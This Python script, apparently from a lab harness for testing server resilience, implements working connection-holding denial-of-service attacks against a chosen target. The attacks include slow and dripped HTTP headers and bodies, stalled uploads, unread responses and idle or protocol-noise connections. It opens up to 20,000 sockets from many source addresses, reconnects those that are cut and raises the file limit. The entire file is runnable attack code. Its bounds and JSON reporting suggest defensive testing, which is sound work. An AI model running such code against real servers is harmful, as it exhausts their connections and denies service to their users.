#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-2.0-or-later
"""Attackers that hold: connections that are opened one after another and kept.

    holders.py ATTACK --target ADDR:PORT [--target6 [ADDR]:PORT] --from ADDRS --count N --rate R
               --seconds S [--reconnect] [--every S]

ATTACK is a name in ATTACKS, several joined by `+` (the connections take them in turn), or mixed.
ADDRS is a list separated by commas, or NET/LEN for as many different addresses as there are
connections.
One process and one epoll hold them all. Bounded in count and in time. With --reconnect what was
cut is opened again, four times as many connections at most. The last line of standard output is
one JSON object: what was started, connected, cut (by RST: reset, by end of file: closed), never
connected, held at the end, and when the first and the last RST came, in seconds of CLOCK_MONOTONIC
(`begin` is when the attack began).
"""
import argparse
import collections
import errno
import json
import resource
import select
import signal
import socket
import sys
import time

import lab
import traffic

MAX_SOCKETS = 20000
MAX_SECONDS = 900.0
TINY_BUFFER = 2048

# first: said at once; drip: one byte each `every` seconds after that; reads: what comes is read.
Play = collections.namedtuple("Play", "first drip reads", defaults=(b"", b"", True))

HEAD = b" HTTP/1.1\r\nHost: x\r\n"
POST = b"POST /upload" + HEAD + b"Content-Length: 10000\r\n"
ATTACKS = {
    "silent": Play(),
    "slow-header": Play(b"GET /hello_world" + HEAD + b"X-Sl"),
    "slow-body": Play(POST + b"\r\n0123456789"),
    "drip-header": Play(b"GET /hello_world" + HEAD + b"X-Drip: ", b"a"),
    "drip-body": Play(POST + b"\r\n0123456789", b"a"),
    "expect": Play(POST + b"Expect: 100-continue\r\n\r\n"),
    "unread": Play(b"GET /big" + HEAD + b"\r\n", reads=False),
    "idle": Play(b"GET /hello_world?name=idle" + HEAD + b"\r\n"),
    # Held open as well, if the server does: some have no end of line and are waited for.
    "brute": Play(b"GET /login" + HEAD + b"\r\n"),
    "admin": Play(b"GET /admin/" + HEAD + b"\r\n"),
    "text": Play(b"123\r\n"),
    "tls": Play(traffic.TLS_HELLO.rstrip(b"\n")),
    "rtsp": Play(traffic.NOISE["rtsp"][0]),
    "rdp": Play(traffic.NOISE["rdp"][0].rstrip(b"\n")),
    "smb": Play(traffic.NOISE["smb"][0].rstrip(b"\n")),
    "http2": Play(traffic.NOISE["http2"][0]),
}
MIXED = ("silent+brute+slow-header+text+slow-body+tls+drip-header+rtsp+silent+rdp+drip-body+smb+"
         "admin+http2")


class Connection:
    def __init__(self, sock, play):
        self.sock = sock
        self.play = play
        self.held = False


class Holder:
    """Opens `count` connections at `rate` a second and keeps them as their play says."""

    def __init__(self, args):
        self.args = args
        names = MIXED if args.attack == "mixed" else args.attack
        self.plays = [ATTACKS[name] for name in names.split("+")]
        self.target = traffic.split_target(args.target)
        self.target6 = traffic.split_target(args.target6) if args.target6 else None
        self.sources = sources(args)
        self.epoll = select.epoll()
        self.connections = {}
        self.drips = collections.deque()  # (due, connection): the interval is one, so it is sorted
        self.owed = min(args.count, MAX_SOCKETS)
        self.budget = min(args.count * (4 if args.reconnect else 1), MAX_SOCKETS)
        self.result = dict.fromkeys(("started", "connected", "reset", "closed", "failed"), 0)
        self.result |= {"first_reset": None, "last_reset": None}

    def open_one(self):
        number = self.result["started"]
        source = self.sources[number % len(self.sources)]
        # Every address plays every part, also when the two numbers have a common divisor.
        play = self.plays[(number + number // len(self.sources)) % len(self.plays)]
        self.result["started"] += 1
        self.owed -= 1
        sock = traffic.new_socket(source, nonblocking=True)
        if not play.reads:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, TINY_BUFFER)
        code = sock.connect_ex(self.target6 if ":" in source and self.target6 else self.target)
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            self.result["failed"] += 1
            return
        self.epoll.register(sock, select.EPOLLOUT)
        self.connections[sock.fileno()] = Connection(sock, play)

    def lose(self, connection, how):
        del self.connections[connection.sock.fileno()]
        connection.sock.close()
        connection.held = False
        self.result[how] += 1
        if how == "reset":
            now = time.monotonic()
            self.result["first_reset"] = self.result["first_reset"] or now
            self.result["last_reset"] = now
        if self.args.reconnect and self.result["started"] + self.owed < self.budget:
            self.owed += 1

    def connected(self, connection):
        if connection.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.lose(connection, "failed")
            return
        self.result["connected"] += 1
        connection.held = True
        play = connection.play
        # Without a wish epoll still tells of a reset.
        self.epoll.modify(connection.sock, select.EPOLLIN if play.reads else 0)
        if play.first and not self.send(connection, play.first):
            return
        if play.drip:
            self.drips.append((time.monotonic() + self.args.every, connection))

    def send(self, connection, data):
        try:
            connection.sock.send(data)
            return True
        except BlockingIOError:
            return True
        except OSError:
            self.lose(connection, "reset")
            return False

    def heard(self, connection, events):
        if events & select.EPOLLERR:
            self.lose(connection, "reset")
            return
        try:
            if connection.sock.recv(65536):
                return
        except BlockingIOError:
            return
        except OSError:
            self.lose(connection, "reset")
            return
        self.lose(connection, "closed")

    def drip(self, now):
        while self.drips and self.drips[0][0] <= now:
            _, connection = self.drips.popleft()
            if connection.held and self.send(connection, connection.play.drip):
                self.drips.append((now + self.args.every, connection))

    def run(self):
        begin = now = time.monotonic()
        end = begin + min(self.args.seconds, MAX_SECONDS)
        while traffic.running() and now < end:
            due = int((now - begin) * self.args.rate) + 1
            while self.owed > 0 and self.result["started"] < due:
                self.open_one()
            for fd, events in self.epoll.poll(0.005 if self.owed > 0 else 0.1):
                connection = self.connections[fd]
                if connection.held:
                    self.heard(connection, events)
                else:
                    self.connected(connection)
            now = time.monotonic()
            self.drip(now)
        held = sum(1 for connection in self.connections.values() if connection.held)
        for connection in self.connections.values():
            connection.sock.close()
        self.result["cut"] = self.result["reset"] + self.result["closed"]
        return self.result | {"begin": begin, "held_at_end": held}


def sources(args):
    """The addresses to connect from."""
    if "/" in args.sources:
        return lab.crowd(min(args.count, MAX_SOCKETS), args.sources)
    return args.sources.split(",")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("--target", required=True)
    parser.add_argument("--target6")
    parser.add_argument("--from", dest="sources", required=True)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--rate", type=float, default=100.0)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--every", type=float, default=5.0)
    parser.add_argument("--reconnect", action="store_true")
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: traffic.STOPPED.set())
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(Holder(args).run()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
